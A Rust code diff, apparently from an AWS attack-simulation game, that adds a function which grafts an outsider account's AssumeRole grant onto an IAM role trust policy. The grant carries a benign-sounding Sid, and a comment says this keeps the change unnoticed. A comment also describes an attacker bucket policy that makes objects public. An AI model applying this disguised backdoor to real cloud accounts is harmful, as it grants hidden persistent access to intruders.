@@ -21,6 +21,10 @@ pub use crate::aws::game::TAG;
 pub struct Secret(String);
 
 impl Secret {
+    pub fn new(secret: String) -> Self {
+        Self(secret)
+    }
+
     pub fn expose(&self) -> &str {
         &self.0
     }
@@ -103,6 +107,26 @@ pub fn grants_policy(g: &Grants) -> String {
             "Resource": buckets(&g.can_admin)}));
     }
     json!({"Version": "2012-10-17", "Statement": statements}).to_string()
+}
+
+/// A role's trust policy with the attacker's account let in, added to what
+/// it says (`iam-backdoor-role`): the role's own users keep working, so the
+/// change goes unnoticed.
+pub fn backdoored_trust(existing: &str, outsider: &str) -> String {
+    let grant = json!({
+        "Sid": "CrossAccountSupport", "Effect": "Allow",
+        "Principal": {"AWS": format!("arn:aws:iam::{outsider}:root")},
+        "Action": "sts:AssumeRole"});
+    let mut doc: serde_json::Value = serde_json::from_str(existing)
+        .unwrap_or_else(|_| json!({"Version": "2012-10-17", "Statement": []}));
+    let mut items = match doc.get("Statement") {
+        Some(serde_json::Value::Array(a)) => a.clone(),
+        Some(one @ serde_json::Value::Object(_)) => vec![one.clone()],
+        _ => Vec::new(),
+    };
+    items.push(grant);
+    doc["Statement"] = serde_json::Value::Array(items);
+    doc.to_string()
 }
 
 /// The policy the attacker puts on a bucket: anyone may read its objects.
